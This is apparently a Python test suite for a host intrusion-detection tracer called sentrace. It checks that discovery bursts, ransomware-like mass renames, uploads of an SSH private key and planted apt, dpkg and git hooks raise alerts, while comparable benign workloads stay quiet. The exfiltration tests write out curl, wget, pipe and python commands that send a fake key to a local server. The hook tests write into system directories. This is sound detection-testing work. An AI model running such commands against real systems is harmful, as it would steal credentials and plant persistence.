# SPDX-License-Identifier: Apache-2.0
"""Behaviours caught by what they do over time or where they write, under
the real tracer with the real probe and the default policy (issue #13,
items 3 to 5), each with the ordinary workload that must stay quiet:

  - a discovery burst (id, uname, hostname, …, also through links with
    innocent names and an argv[0] of another name) -> one discovery_burst;
    a CI-like pipeline (git log | grep | sort, uname and id again and
    again) -> no alert;
  - a rename storm (150 files renamed in place by one process) -> one
    ransomware_rename_storm; logrotate-like renames (fewer than the
    threshold) and a mv of 150 files into a directory -> no alert;
  - a curl upload (and a wget post) of a planted fake key to a local HTTP
    server -> sensitive_file_upload, and the read-then-connect sequence;
    `cat key | curl -T -` and a python one-liner -> inline_code_sends_secret;
    a download followed by sha256sum, and an upload of an ordinary file ->
    no alert;
  - an apt hook planted by a shell, a dpkg configuration symlinked, a git
    hook renamed into a system repository, a shell copied as "dpkg"
    writing a hook -> installer_hook_*; apt-get installing (and purging) a
    local package whose postinst writes an apt.conf.d file -> no alert.
"""

import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import unittest

import scenlib

FAKE_KEY = ('-----BEGIN OPENSSH PRIVATE KEY-----\n'
            'c2VudHJhY2UtdGVzdC1mYWtlLWtleS1ub3QtYS1yZWFsLW9uZQ==\n'
            '-----END OPENSSH PRIVATE KEY-----\n')


class Uploads(http.server.BaseHTTPRequestHandler):
    """Answers GET with a small body and records every PUT/POST body."""

    received = []

    def _chunked(self):
        data = b''
        while True:
            n = int(self.rfile.readline().split(b';')[0].strip() or b'0', 16)
            if n == 0:
                self.rfile.readline()
                return data
            data += self.rfile.read(n)
            self.rfile.readline()

    def _body(self):
        if 'chunked' in (self.headers.get('Transfer-Encoding') or ''):
            data = self._chunked()
        else:
            n = int(self.headers.get('Content-Length') or 0)
            data = self.rfile.read(n) if n else b''
        Uploads.received.append((self.command, self.path, data))
        self.send_response(200)
        self.send_header('Content-Length', '2')
        self.end_headers()
        self.wfile.write(b'ok')

    do_PUT = _body
    do_POST = _body

    def do_GET(self):
        body = b'just a file\n'
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def count(run, rule):
    return sum(1 for a in run.alerts if a.get('rule_id') == rule)


class BehaviourTest(unittest.TestCase):

    maxDiff = None

    def setUp(self):
        self.S = tempfile.mkdtemp(prefix='sentrace-behaviour-')
        os.chmod(self.S, 0o755)
        self.cleanup = []

    def tearDown(self):
        for p in reversed(self.cleanup):
            try:
                if os.path.isdir(p) and not os.path.islink(p):
                    os.rmdir(p)
                elif os.path.lexists(p):
                    os.unlink(p)
            except OSError as e:
                print('cleanup %s: %s' % (p, e), file=sys.stderr)
        if os.environ.get('SENTRACE_SCN_KEEP') == '1':
            print('kept ' + self.S, file=sys.stderr)
        else:
            shutil.rmtree(self.S, ignore_errors=True)

    def ensure_dir(self, path):
        missing = []
        while not os.path.exists(path):
            missing.append(path)
            path = os.path.dirname(path)
        for d in reversed(missing):
            os.mkdir(d, 0o755)
            self.cleanup.append(d)

    def run_script(self, name, text, policies=None, env=None):
        script = os.path.join(self.S, name + '.sh')
        with open(script, 'w') as f:
            f.write(text)
        e = dict(os.environ, S=self.S, A=scenlib.ACTOR, PY=os.path.realpath(sys.executable))
        e.update(env or {})
        return scenlib.trace(['/bin/sh', script], os.path.join(self.S, 'run-' + name),
                             policies or [scenlib.POLICY], env=e, cwd=self.S)

    def assertNoAlerts(self, run, what):
        self.assertEqual(run.alerts, [], '%s raised alerts:%s%s'
                         % (what, run.describe(), run.summary()))

    # ---- discovery bursts ----

    def test_discovery_burst(self):
        # Seven programs by the children of one shell: one alert at the
        # fifth (the group starts over, two more are not five).
        run = self.run_script('burst', 'set -e\n'
                              'sh -c "id >/dev/null; uname -a >/dev/null; hostname >/dev/null; '
                              'whoami >/dev/null; ps >/dev/null; getent passwd >/dev/null; '
                              'cat /etc/passwd >/dev/null"\n'
                              'echo burst-done\n')
        self.assertIn('burst-done', run.stdout, run.summary())
        self.assertEqual(count(run, 'discovery_burst'), 1, run.describe() + run.summary())
        alert = [a for a in run.alerts if a['rule_id'] == 'discovery_burst'][0]
        self.assertEqual(alert['threshold'], {'count': 5, 'window_ns': 30 * 10 ** 9})
        self.assertEqual(alert['event']['ev'], 'exec')
        self.assertTrue(alert['event']['file'].endswith('/ps'), alert['event'])

    def test_discovery_burst_renamed(self):
        # The same programs under innocent names: links (the kernel runs
        # the real file, whose name the rule reads) and copies run with
        # argv[0] of the real name.
        links = ' '.join('ln -s "$(command -v %s)" "$S/l%d";' % (p, i)
                         for i, p in enumerate(['id', 'uname', 'hostname']))
        run = self.run_script('renamed', links + '\n'
                              'cp "$(command -v whoami)" "$S/c0"; cp "$(command -v ps)" "$S/c1"\n'
                              'sh -c "$S/l0 >/dev/null; $S/l1 >/dev/null; $S/l2 >/dev/null; '
                              '$A exec-argv0 whoami $S/c0 >/dev/null; '
                              '$A exec-argv0 /bin/ps $S/c1 >/dev/null"\n')
        self.assertEqual(count(run, 'discovery_burst'), 1, run.describe() + run.summary())

    def test_ci_pipeline_is_quiet(self):
        # A CI job: git log | grep | sort, build-system probes that run
        # uname and id again and again (the same programs), a few others.
        work = os.path.join(self.S, 'repo')
        os.makedirs(work)
        env = {'HOME': work, 'GIT_CONFIG_NOSYSTEM': '1', 'PAGER': 'cat'}
        run = self.run_script('ci', 'set -e\ncd "$S/repo"\n'
                              'git init -q . && git config user.email t@example.invalid && '
                              'git config user.name ci\n'
                              'for i in 1 2 3 4 5 6; do echo $i > f$i; git add f$i; '
                              'git commit -q -m "c $i"; done\n'
                              'git log --oneline | grep c | sort -r | head -3 >/dev/null\n'
                              'for i in 1 2 3 4 5 6 7 8; do uname -s >/dev/null; uname -m >/dev/null; '
                              'id -u >/dev/null; done\n'
                              'ls -la | wc -l >/dev/null; date >/dev/null\n'
                              'echo ci-done\n', env=env)
        self.assertIn('ci-done', run.stdout, run.summary())
        self.assertNoAlerts(run, 'a CI-like pipeline')

    # ---- rename storms ----

    RENAME = ('import os, sys\n'
              'd, n, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]\n'
              'os.makedirs(d, exist_ok=True)\n'
              'for i in range(n):\n'
              '    open(os.path.join(d, "doc%d.txt" % i), "w").close()\n'
              'for i in range(n):\n'
              '    src = os.path.join(d, "doc%d.txt" % i)\n'
              '    if mode == "inplace":\n'
              '        os.rename(src, src + ".zz9")\n'
              '    else:\n'
              '        os.rename(src, os.path.join(d, "rot%d.log.1" % i))\n')

    def write_renamer(self):
        path = os.path.join(self.S, 'renamer.py')
        with open(path, 'w') as f:
            f.write(self.RENAME)
        return path

    def test_rename_storm(self):
        self.write_renamer()
        run = self.run_script('storm', '"$PY" "$S/renamer.py" "$S/victim" 150 inplace\n'
                              'ls "$S/victim" | grep -c zz9\n')
        self.assertIn('150', run.stdout, run.summary())
        self.assertEqual(count(run, 'ransomware_rename_storm'), 1, run.describe() + run.summary())
        alert = [a for a in run.alerts if a['rule_id'] == 'ransomware_rename_storm'][0]
        self.assertEqual(alert['threshold'], {'count': 100, 'window_ns': 10 * 10 ** 9})
        self.assertEqual(alert['event']['ev'], 'rename')

    def test_rename_benign(self):
        # logrotate-like: 40 renames by one process, below the threshold;
        # then 150 files moved into a directory by one mv (names kept).
        self.write_renamer()
        run = self.run_script('rotate', 'set -e\n'
                              '"$PY" "$S/renamer.py" "$S/logs" 40 rotate\n'
                              'mkdir "$S/in" "$S/photos"\n'
                              'for i in $(seq 1 150); do : > "$S/in/p$i.jpg"; done\n'
                              'mv "$S"/in/*.jpg "$S/photos/"\n'
                              'ls "$S/photos" | wc -l\n')
        self.assertIn('150', run.stdout, run.summary())
        self.assertNoAlerts(run, 'logrotate-like renames and a mv into a directory')

    # ---- exfiltration ----

    def start_server(self):
        Uploads.received = []
        srv = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Uploads)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        self.addCleanup(srv.server_close)
        self.addCleanup(srv.shutdown)
        return srv.server_address[1]

    def plant_key(self):
        self.ensure_dir('/root/.ssh')
        key = '/root/.ssh/id_sentrace_behaviour'
        with open(key, 'w') as f:
            f.write(FAKE_KEY)
        os.chmod(key, 0o600)
        self.cleanup.append(key)
        return key

    def test_upload_of_a_planted_key(self):
        port = self.start_server()
        key = self.plant_key()
        # test-overrides.policy: loopback counts as "outbound", so that the
        # read-then-connect sequence is seen against the local server.
        run = self.run_script('upload', 'set -e\n'
                              'curl -sS -T "$KEY" "http://127.0.0.1:$PORT/up" >/dev/null\n'
                              'wget -q -O /dev/null --post-file="$KEY" "http://127.0.0.1:$PORT/post"\n'
                              'sh -c "cat $KEY | curl -sS -T - http://127.0.0.1:$PORT/pipe >/dev/null"\n'
                              '"$PY" -c "import urllib.request as u; u.urlopen(u.Request('
                              '\'http://127.0.0.1:$PORT/py\', open(\'$KEY\', \'rb\').read()))'
                              '.read()"\n'
                              'echo upload-done\n',
                              policies=[scenlib.POLICY, scenlib.OVERRIDES],
                              env={'KEY': key, 'PORT': str(port)})
        self.assertIn('upload-done', run.stdout, run.summary())
        bodies = [b for _, _, b in Uploads.received]
        self.assertEqual(bodies, [FAKE_KEY.encode()] * 4, 'the server did not get the key')
        got = run.rule_ids()
        self.assertEqual(count(run, 'sensitive_file_upload'), 2, run.describe() + run.summary())
        for a in run.alerts:
            if a['rule_id'] == 'sensitive_file_upload':
                self.assertIn(os.path.basename(a['event']['file']), ('curl', 'wget'))
        # The pipeline and the python one-liner name the key in their code.
        self.assertEqual(count(run, 'inline_code_sends_secret'), 2, run.describe())
        self.assertIn('ssh_private_key_read', got, run.describe())
        self.assertIn('credential_read_then_connect', got, run.describe())
        self.assertNotIn('credential_read_before_connect', got, 'a rule that only counts alerted')

    def test_connect_then_read_is_not_the_sequence(self):
        # The same process connects first, then reads the key (and sends
        # nothing after): not "read, then connect".
        port = self.start_server()
        key = self.plant_key()
        code = ('import socket; s = socket.create_connection((\'127.0.0.1\', %d)); '
                's.close(); open(\'%s\').read()' % (port, key))
        run = self.run_script('order', '"$PY" -c "$CODE"\necho order-done\n',
                              policies=[scenlib.POLICY, scenlib.OVERRIDES], env={'CODE': code})
        self.assertIn('order-done', run.stdout, run.summary())
        got = run.rule_ids()
        self.assertIn('ssh_private_key_read', got, run.describe() + run.summary())
        self.assertIn('interpreter_inline_code_connection', got, run.describe())
        self.assertNotIn('credential_read_then_connect', got, run.describe())
        self.assertNotIn('credential_read_before_connect', got, run.describe())

    def test_download_and_ordinary_upload_are_quiet(self):
        port = self.start_server()
        with open(os.path.join(self.S, 'report.txt'), 'w') as f:
            f.write('numbers\n')
        run = self.run_script('download', 'set -e\n'
                              'curl -sS -o "$S/dl" "http://127.0.0.1:$PORT/file"\n'
                              'sha256sum "$S/dl" >/dev/null\n'
                              'curl -sS -T "$S/report.txt" "http://127.0.0.1:$PORT/r" >/dev/null\n'
                              'curl -sS -d @"$S/report.txt" "http://127.0.0.1:$PORT/d" >/dev/null\n'
                              'echo dl-done\n', env={'PORT': str(port)})
        self.assertIn('dl-done', run.stdout, run.summary())
        self.assertEqual(len(Uploads.received), 2)
        self.assertNoAlerts(run, 'curl > file, sha256sum, an ordinary upload')

    # ---- installer hooks ----

    def test_installer_hooks_planted(self):
        for d in ('/etc/apt/apt.conf.d', '/etc/apt/preferences.d', '/etc/dpkg/dpkg.cfg.d',
                  '/srv/sentrace-scn.git/hooks'):
            self.ensure_dir(d)
        planted = ['/etc/apt/apt.conf.d/99sentrace-scn-hook',
                   '/etc/apt/apt.conf.d/97sentrace-scn-fake',
                   '/etc/apt/preferences.d/sentrace-scn',
                   '/etc/dpkg/dpkg.cfg.d/sentrace-scn',
                   '/srv/sentrace-scn.git/hooks/post-receive']
        self.cleanup.extend(planted)
        os.makedirs(os.path.join(self.S, 'bin'))
        shutil.copy2(os.path.realpath('/bin/sh'), os.path.join(self.S, 'bin', 'dpkg'))
        run = self.run_script('hooks', 'set -e\n'
                              # Inert contents: apt and dpkg run by other tests meanwhile
                              # read these files.
                              "echo '// sentrace test' > /etc/apt/apt.conf.d/99sentrace-scn-hook\n"
                              ': > "$S/prefs" && mv "$S/prefs" /etc/apt/preferences.d/sentrace-scn\n'
                              ': > "$S/cfg" && ln -s "$S/cfg" /etc/dpkg/dpkg.cfg.d/sentrace-scn\n'
                              'echo "#!/bin/sh" > "$S/hook" && '
                              'mv "$S/hook" /srv/sentrace-scn.git/hooks/post-receive\n'
                              '"$S/bin/dpkg" -c ": > /etc/apt/apt.conf.d/97sentrace-scn-fake"\n'
                              'echo hooks-done\n')
        self.assertIn('hooks-done', run.stdout, run.summary())
        paths = {}
        for a in run.alerts:
            ev = a['event']
            paths.setdefault(a['rule_id'], set()).add(ev.get('dest') or ev.get('path'))
        self.assertEqual(paths.get('installer_hook_write'),
                         {'/etc/apt/apt.conf.d/99sentrace-scn-hook',
                          '/etc/apt/apt.conf.d/97sentrace-scn-fake'}, run.describe())
        self.assertEqual(paths.get('installer_hook_symlink'), {'/etc/dpkg/dpkg.cfg.d/sentrace-scn'},
                         run.describe())
        # mv across file systems copies (open for writing) instead of renaming.
        moved = paths.get('installer_hook_rename', set()) | paths.get('installer_hook_write', set())
        for p in ('/etc/apt/preferences.d/sentrace-scn', '/srv/sentrace-scn.git/hooks/post-receive'):
            if p not in moved:
                self.assertIn(p, paths.get('installer_hook_rename', set()), run.describe())

    def build_deb(self):
        root = os.path.join(self.S, 'pkg')
        os.makedirs(os.path.join(root, 'DEBIAN'))
        with open(os.path.join(root, 'DEBIAN', 'control'), 'w') as f:
            f.write('Package: sentrace-scn-hooktest\nVersion: 1.0\nArchitecture: all\n'
                    'Maintainer: sentrace tests <t@example.invalid>\n'
                    'Description: a package whose scripts write an apt hook\n')
        scripts = {
            'postinst': '#!/bin/sh\nset -e\n'
                        'echo "// sentrace test" > /etc/apt/apt.conf.d/99sentrace-scn-pkg\n',
            'postrm': '#!/bin/sh\nset -e\nrm -f /etc/apt/apt.conf.d/99sentrace-scn-pkg\n',
        }
        for name, text in scripts.items():
            p = os.path.join(root, 'DEBIAN', name)
            with open(p, 'w') as f:
                f.write(text)
            os.chmod(p, 0o755)
        deb = os.path.join(self.S, 'sentrace-scn-hooktest.deb')
        subprocess.run(['dpkg-deb', '--build', '--root-owner-group', root, deb], check=True,
                       stdout=subprocess.DEVNULL)
        return deb

    def test_package_manager_is_quiet(self):
        if not (shutil.which('apt-get') and shutil.which('dpkg-deb')):
            self.fail('apt-get and dpkg-deb are needed (a Debian system: tools/setup)')
        self.ensure_dir('/etc/apt/apt.conf.d')
        deb = self.build_deb()
        self.cleanup.append('/etc/apt/apt.conf.d/99sentrace-scn-pkg')
        opts = '-y -q -o DPkg::Lock::Timeout=120 -o Debug::NoLocking=false'
        try:
            run = self.run_script('apt', 'set -e\n'
                                  'apt-get %s install "$DEB" >/dev/null\n'
                                  'test -f /etc/apt/apt.conf.d/99sentrace-scn-pkg\n'
                                  'test -f /var/lib/dpkg/info/sentrace-scn-hooktest.postinst\n'
                                  'apt-get %s purge sentrace-scn-hooktest >/dev/null\n'
                                  'echo apt-done\n' % (opts, opts), env={'DEB': deb})
        finally:
            # Left installed by a failed run: purged, waiting for the lock
            # as long as the run itself would have.
            st = subprocess.run(['dpkg-query', '-W', '-f', '${Status}', 'sentrace-scn-hooktest'],
                                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
            state = (st.stdout.split() or ['not-installed'])[-1]
            if state != 'not-installed':
                subprocess.run(['apt-get', '-y', '-q', '-o', 'DPkg::Lock::Timeout=120', 'purge',
                                'sentrace-scn-hooktest'],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.assertIn('apt-done', run.stdout, run.summary())
        # apt's download methods drop to the _apt user with setresuid, which
        # setuid_root_from_non_root (not a rule of this file) reports: left
        # to that rule. Anything else is an alert too many.
        others = [a for a in run.alerts if a['rule_id'] != 'setuid_root_from_non_root']
        self.assertEqual(others, [], 'apt-get installing and purging a package with a '
                         'postinst raised alerts:%s%s' % (run.describe(), run.summary()))


if __name__ == '__main__':
    scenlib.check_programs()
    unittest.main(verbosity=2)
